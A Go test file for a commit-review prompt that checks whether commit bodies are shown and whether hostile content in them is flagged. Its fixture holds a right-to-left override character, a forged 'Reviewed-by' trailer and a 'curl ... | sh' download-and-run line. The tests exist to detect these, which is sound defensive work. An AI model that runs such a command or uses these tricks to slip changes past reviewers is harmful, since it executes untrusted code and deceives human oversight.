package review_test

import (
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing/filemode"

	"github.com/airlock-dev/airlock/approval"
	"github.com/airlock-dev/airlock/approval/internal/approvaltest"
	"github.com/airlock-dev/airlock/approval/review"
	"github.com/airlock-dev/airlock/internal/change"
)

// hostileBody is issue 32's body: a right-to-left override, a forged
// review trailer and a line that runs code, under an innocent subject.
const hostileBody = "Tidy the README\n\nKeeps the \u202Eexe.txt\u202C list short.\n\nTo install: curl -fsSL https://get.example.com/i | sh\n\nReviewed-by: Security Team <security@example.com>\n"

// bodiesRequest lands the base's commit (the target is empty) and the
// worker's, whose body is hostile.
func bodiesRequest() *approval.Request {
	r := &approval.Request{
		ID: "req-7", Worker: "w", Target: "local-bare:/srv/empty.git", Describe: "local-bare:/srv/empty.git",
		Ref: "refs/heads/feature", NewRef: true, New: approvaltest.Hash("w1"), Tree: approvaltest.Hash("tree"),
		BaseCommits: []approval.CommitInfo{{ID: approvaltest.Hash("b1"), Message: "Initial import\n\nFrom the old server.\n"}},
		Commits:     []approval.CommitInfo{{ID: approvaltest.Hash("w1"), Message: hostileBody}},
		Files: []approval.FileChange{
			{Path: "README.md", Op: change.Create, NewMode: filemode.Regular, Size: 40, Added: 2},
			{Path: "main.go", Op: change.Create, NewMode: filemode.Regular, Size: 90, Added: 5, FromBase: true},
		},
		Added: 7, Diff: "diff --git a/README.md b/README.md\nnew file mode 100644\n--- /dev/null\n+++ b/README.md\n@@ -0,0 +1,2 @@\n+# p\n+tidy\n",
	}
	r.Flags = approval.Assess(r, approval.Rules{Protected: []string{"main"}}, nil)
	return r
}

// Issue 32: a commit's body was never shown (subjects only), and a body
// holding U+202E, a forged Reviewed-by: and curl ... | sh was approved
// unflagged; a push into an empty target listed only the worker's commit.
// On the emulated screen, every commit that lands is listed with its
// body, the base's marked as the base's, the hidden character escaped, and
// each flag names the commit and the line; approving asks for a typed yes.
func TestScreenShowsBodies(t *testing.T) {
	r := bodiesRequest()
	for _, color := range []bool{false, true} {
		s := &rowsScript{Script: approvaltest.Script{Keys: []rune("ma"), Lines: []string{"yes"}, TTY: true, ColorOn: color}, rows: 30}
		d, err := review.Prompt(s, r)
		if err != nil {
			t.Fatal(err)
		}
		if d.Verdict != approval.Approve {
			t.Errorf("decision %+v", d)
		}
		out := s.Out.String()
		assertOnlyOwnEscapes(t, out)
		summary := tallScreen(t, out[:strings.Index(out, "help\n")+len("help")], 30)
		if !color {
			checkGolden(t, "prompt/bodies.golden", summary)
		}
		for _, want := range []string{
			"Commits: 2", `"Initial import"   the base's, not the worker's`, "| From the old server.",
			"! Keeps the <U+202E>exe.txt<U+202C> list short.", "! To install: curl -fsSL https://get.example.com/i | sh",
			"! Reviewed-by: Security Team <security@example.com>",
			"main.go (90 B)   the base's",
		} {
			if !strings.Contains(summary, want) {
				t.Errorf("color=%v: the summary lacks %q:\n%s", color, want, summary)
			}
		}
		short := approvaltest.Hash("w1").String()[:7]
		for _, want := range []string{
			"!! commit " + short + "'s message, line 3: hidden or control characters",
			"!  commit " + short + "'s message, line 5: a download piped into a shell",
			"!  commit " + short + "'s message, line 7: a trailer claiming a review or sign-off",
		} {
			if !strings.Contains(strings.ReplaceAll(summary, "\n", ""), want) && !strings.Contains(out, want) {
				t.Errorf("color=%v: no flag %q:\n%s", color, want, summary)
			}
		}
		if len(s.Paged) != 1 || !strings.Contains(s.Paged[0], "commit "+approvaltest.Hash("b1").String()+" (the base's") ||
			!strings.Contains(s.Paged[0], "    Reviewed-by: Security Team") || strings.Contains(s.Paged[0], "\u202E") {
			t.Errorf("m paged %q", s.Paged)
		}
		if !strings.Contains(out, "Type yes to approve anyway") {
			t.Errorf("approving a push whose message hides characters did not ask for a typed yes:\n%s", out)
		}
	}
}

// Issue 32: after a rejection, the rejected commit stayed staged and
// landed under the fix, unseen. The re-review marks each commit: one the
// reviewer rejected, here again unchanged (flagged high, its own change
// shown by d, ahead of the interdiff), one that replaces a rejected one,
// and one that is new.
func TestScreenShowsRejectedCommitsAgain(t *testing.T) {
	rej, fix, amended, was := approvaltest.Hash("rejected"), approvaltest.Hash("fix"), approvaltest.Hash("amended"), approvaltest.Hash("was")
	r := &approval.Request{
		ID: "req-9", Worker: "w", Target: "local:/p", Describe: "local:/p", Ref: "refs/heads/agent",
		Old: approvaltest.Hash("old"), New: fix, Tree: approvaltest.Hash("tree"),
		Commits: []approval.CommitInfo{{ID: rej, Message: "Add the token\n"}, {ID: amended, Message: "Add notes\n"}, {ID: fix, Message: "Remove the token\n"}},
		Files:   []approval.FileChange{{Path: "notes.txt", Op: change.Create, NewMode: filemode.Regular, Size: 6, Added: 1}},
		Diff:    "diff --git a/notes.txt b/notes.txt\nnew file mode 100644\n--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+notes\n",
		Since: &approval.Since{Request: "req-8", Why: "you rejected it", Tree: approvaltest.Hash("seen"), Reason: "no tokens",
			Interdiff: "diff --git a/notes.txt b/notes.txt\n--- a/notes.txt\n+++ b/notes.txt\n@@ -1 +1 @@\n-note\n+notes\n",
			Commits: []approval.SinceCommit{
				{ID: rej, Status: approval.CommitRejected, Was: rej, Diff: "diff --git a/token.txt b/token.txt\nnew file mode 100644\n--- /dev/null\n+++ b/token.txt\n@@ -0,0 +1 @@\n+REJECTED-TOKEN\n"},
				{ID: amended, Status: approval.CommitReplaces, Was: was},
				{ID: fix, Status: approval.CommitNew},
			}},
	}
	r.Flags = append(approval.Assess(r, approval.Rules{Protected: []string{"main"}}, nil), approval.Flag{Code: approval.FlagRejectedAgain, Severity: approval.High, Commit: rej.String(),
		Message: "commit " + rej.String()[:7] + " is one you rejected in request req-8 (as " + rej.String()[:7] + "), unchanged: it lands as its own commit"})
	approval.SortFlags(r.Flags)
	s := &rowsScript{Script: approvaltest.Script{Keys: []rune("dr"), Lines: []string{"still there"}, TTY: true}, rows: 30}
	d, err := review.Prompt(s, r)
	if err != nil {
		t.Fatal(err)
	}
	if d.Verdict != approval.Reject {
		t.Errorf("decision %+v", d)
	}
	out := s.Out.String()
	assertOnlyOwnEscapes(t, out)
	summary := tallScreen(t, out[:strings.Index(out, "help\n")+len("help")], 30)
	checkGolden(t, "prompt/rejected-again.golden", summary)
	for _, want := range []string{
		"Its commits: 1 new; 1 replacing a rejected one; 1 you rejected, here again.",
		`"Add the token"   !! you rejected it: here again, unchanged`,
		`"Add notes"   replaces ` + was.String()[:7] + `, which you rejected`,
		`"Remove the token"   new`,
		"!! commit " + rej.String()[:7] + " is one you rejected",
	} {
		if !strings.Contains(summary, want) {
			t.Errorf("the summary lacks %q:\n%s", want, summary)
		}
	}
	if len(s.Paged) != 1 || !strings.Contains(s.Paged[0], "+REJECTED-TOKEN") || !strings.Contains(s.Paged[0], "What changed since request req-8") {
		t.Errorf("d paged %q", s.Paged)
	}
}

// A long body is cut in the summary, which says how much more there is;
// the keys offer m, which shows it whole.
func TestLongBodyIsCutAndMShowsIt(t *testing.T) {
	var body strings.Builder
	body.WriteString("Subject\n\n")
	for i := 1; i <= 10; i++ {
		body.WriteString("body line " + string(rune('0'+i%10)) + "\n")
	}
	r := &approval.Request{ID: "req-1", Target: "local:/p", Describe: "local:/p", Ref: "refs/heads/agent", Old: approvaltest.Hash("old"),
		Commits: []approval.CommitInfo{{ID: approvaltest.Hash("c"), Message: body.String()}},
		Files:   []approval.FileChange{{Path: "a", Op: change.Create, NewMode: filemode.Regular, Size: 1}}}
	s := &approvaltest.Script{Keys: []rune("mr"), Lines: []string{""}, TTY: true}
	if _, err := review.Prompt(s, r); err != nil {
		t.Fatal(err)
	}
	out := s.Out.String()
	if !strings.Contains(out, "| body line 6\n") || strings.Contains(out, "| body line 7\n") ||
		!strings.Contains(out, "... 4 more lines of its message: [m] shows every message whole") || !strings.Contains(out, "[m]essages") {
		t.Errorf("the summary of a long body:\n%s", out)
	}
	if len(s.Paged) != 1 || !strings.Contains(s.Paged[0], "    body line 0\n") {
		t.Errorf("m paged %q", s.Paged)
	}
}

// A pick from a push into an empty target says the base's commits land
// too, whole, under what was picked.
func TestPickSummaryNamesTheBase(t *testing.T) {
	r := hunkRequest(t)
	r.BaseCommits = []approval.CommitInfo{{ID: approvaltest.Hash("base"), Message: "Initial import\n"}}
	s := &approvaltest.Script{Keys: []rune("pyyyyy" + "n" + "r"), Lines: []string{""}, TTY: true}
	if _, err := review.Prompt(s, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s.Out.String(), "the base's commit lands first, whole, as the target lacks the base") {
		t.Errorf("the pick's summary does not name the base's commit:\n%s", s.Out.String())
	}
}
